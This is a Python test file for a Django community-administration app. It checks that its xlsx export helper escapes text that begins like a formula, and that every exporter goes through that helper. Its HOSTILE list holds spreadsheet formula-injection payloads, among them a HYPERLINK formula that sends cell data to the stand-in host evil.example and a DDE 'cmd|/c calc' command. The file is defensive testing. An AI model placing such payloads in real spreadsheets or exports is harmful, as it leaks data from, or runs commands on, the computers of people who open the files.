"""The one xlsx writer (community_admin/core/xlsx.py): text is never written as a formula.
The exporters' own files: tests/security/test_formula_injection.py."""

import ast
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook
from openpyxl.styles import Font

from community_admin.core import xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&J2,"点此")',
    "=cmd|'/c calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["张三", "3号楼2单元501", "#N/A", "=", ""]  # "#N/A" would be an error value, "=" alone stays text


def read_back(workbook) -> list:
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    return list(
        load_workbook(out).worksheets[-1].iter_rows()
    )  # a normal workbook's default sheet comes first


def assert_text(cells, texts) -> None:
    for c, text in zip(cells[: len(texts)], texts, strict=True):
        assert c.data_type == "s" and c.value == text, (c.coordinate, c.value, c.data_type)
        assert c.quotePrefix == (text[:1] in xlsx.FORMULA_TRIGGERS)


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_starts_like_a_formula_is_written_as_the_text_typed(write_only):
    workbook = xlsx.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("名单")
    sheet.append(HOSTILE)
    sheet.append([xlsx.cell(sheet, text, font=Font(bold=True)) for text in HOSTILE])  # styled cells too
    sheet.append(PLAIN[:-1])
    rows = read_back(workbook)
    assert_text(rows[0], HOSTILE)
    assert_text(rows[1], HOSTILE)
    assert rows[1][0].font.bold
    assert_text(rows[2], PLAIN[:-1])


@pytest.mark.parametrize("write_only", [True, False])
def test_numbers_dates_and_booleans_stay_what_they_are(write_only):
    workbook = xlsx.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("数")
    sheet.append([-5, -2.5, Decimal("-800.50"), date(2025, 3, 1), True, None, 0])
    cells = read_back(workbook)[0]
    values = [c.value for c in cells]
    assert values[:3] == [-5, -2.5, -800.5] and values[3].date() == date(2025, 3, 1)
    assert values[4] is True and values[5] is None and values[6] == 0
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"] and not any(c.quotePrefix for c in cells)


def test_a_normal_workbook_escapes_cells_however_they_were_set():
    workbook = xlsx.new_workbook(write_only=False)
    sheet = workbook.active
    sheet["A1"] = "=1+1"
    sheet.cell(1, 2, value="=cmd|'/c calc'!A0")
    sheet.append(["@SUM(A1)"])
    rows = read_back(workbook)
    assert_text([rows[0][0], rows[0][1], rows[1][0]], ["=1+1", "=cmd|'/c calc'!A0", "@SUM(A1)"])


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_export():
    workbook = xlsx.new_workbook()
    sheet = workbook.create_sheet("x")
    sheet.append(["张\x07三", "=a\x00b"])
    assert_text(read_back(workbook)[0], ["张三", "=ab"])


# Every module that writes a workbook goes through the helper -------------------------------------------

ROOT = Path(settings.BASE_DIR)
HELPER = "community_admin/core/xlsx.py"
# Benchmarks measure openpyxl itself (bench/ledgers.py's "floor") and build synthetic import files.
OUTSIDE_THE_APP = ("bench/", "tests/", ".venv/", "var/", "node_modules/")
# They only read uploads (load_workbook in read-only mode).
READERS = ("residents/importers.py", "ledgers/importers.py")
# What a module may take from openpyxl besides the helper: formatting, nothing that makes or reads cells.
FORMATTING = ("openpyxl.styles", "openpyxl.utils")


def _sources():
    for path in sorted(ROOT.rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if not rel.startswith(OUTSIDE_THE_APP):
            yield rel, ast.parse(path.read_text(encoding="utf-8"), filename=rel)


def _openpyxl_imports(tree) -> list[tuple[str, list[str]]]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [(a.name, []) for a in node.names if a.name.split(".")[0] == "openpyxl"]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "openpyxl":
            found.append((node.module, [a.name for a in node.names]))
    return found


def _uses_helper(tree) -> bool:
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "community_admin.core"
            and any(a.name == "xlsx" for a in node.names)
        ):
            return True
        if isinstance(node, ast.ImportFrom | ast.Import):
            names = [node.module] if isinstance(node, ast.ImportFrom) else [a.name for a in node.names]
            if "community_admin.core.xlsx" in names:
                return True
    return False


def bypasses(rel: str, tree) -> list[str]:
    """What in one module writes or reads a workbook other than through the helper."""
    found = []
    imports = _openpyxl_imports(tree)
    for module, names in imports:
        if not module.startswith(FORMATTING):
            found.append(f"{rel}: {'from ' + module + ' import ' + ', '.join(names) if names else module}")
    if imports and not _uses_helper(tree):
        found.append(f"{rel}: formats cells without {HELPER}")
    for node in ast.walk(tree):  # openpyxl.Workbook(...) by attribute, or a Workbook(...) of any origin
        func = getattr(node, "func", None)
        name = getattr(func, "id", None) or getattr(func, "attr", None)
        if isinstance(node, ast.Call) and name in ("Workbook", "WriteOnlyCell"):
            found.append(f"{rel}:{node.lineno}: {name}(...)")
    return found


def test_no_module_writes_or_reads_a_workbook_but_through_the_helper():
    """A new exporter that builds its own `Workbook(...)` writes formulas again: this walks every module of
    the project and fails on it."""
    found, writers = [], []
    for rel, tree in _sources():
        if rel in (HELPER, *READERS):
            continue
        found += bypasses(rel, tree)
        if _uses_helper(tree):
            writers.append(rel)
    assert found == [], "\n".join(found)
    # The walk sees every exporter (else it proves nothing).
    for module in (
        "residents/exporters.py",
        "ledgers/exporters.py",
        "staff/exporters.py",
        "funding/exporters.py",
        "community_admin/dashboards/exporters.py",
        "community_admin/dashboards/reports/documents.py",
    ):
        assert module in writers


@pytest.mark.parametrize(
    "source",
    [
        "from openpyxl import Workbook\nWorkbook(write_only=True)\n",
        "import openpyxl\nfrom community_admin.core import xlsx\nopenpyxl.Workbook()\n",
        "from openpyxl.cell import WriteOnlyCell\nfrom community_admin.core import xlsx\n",
        "from openpyxl.styles import Font\n",  # styles cells, so it writes: without the helper
    ],
)
def test_the_walk_catches_a_bypass(source):
    assert bypasses("new/exporters.py", ast.parse(source))


def test_sheet_titles_are_ones_excel_takes():
    workbook = xlsx.new_workbook()
    sheet = workbook.create_sheet("A1 甲/乙社区居委会[东区]:*?\\很长很长很长很长很长很长很长")
    assert sheet.title == "A1 甲_乙社区居委会_东区_____很长很长很长很长很长很长"
    assert len(sheet.title) == xlsx.SHEET_TITLE_MAX
    assert xlsx.sheet_title("'引号'") == "引号" and xlsx.sheet_title("") is None
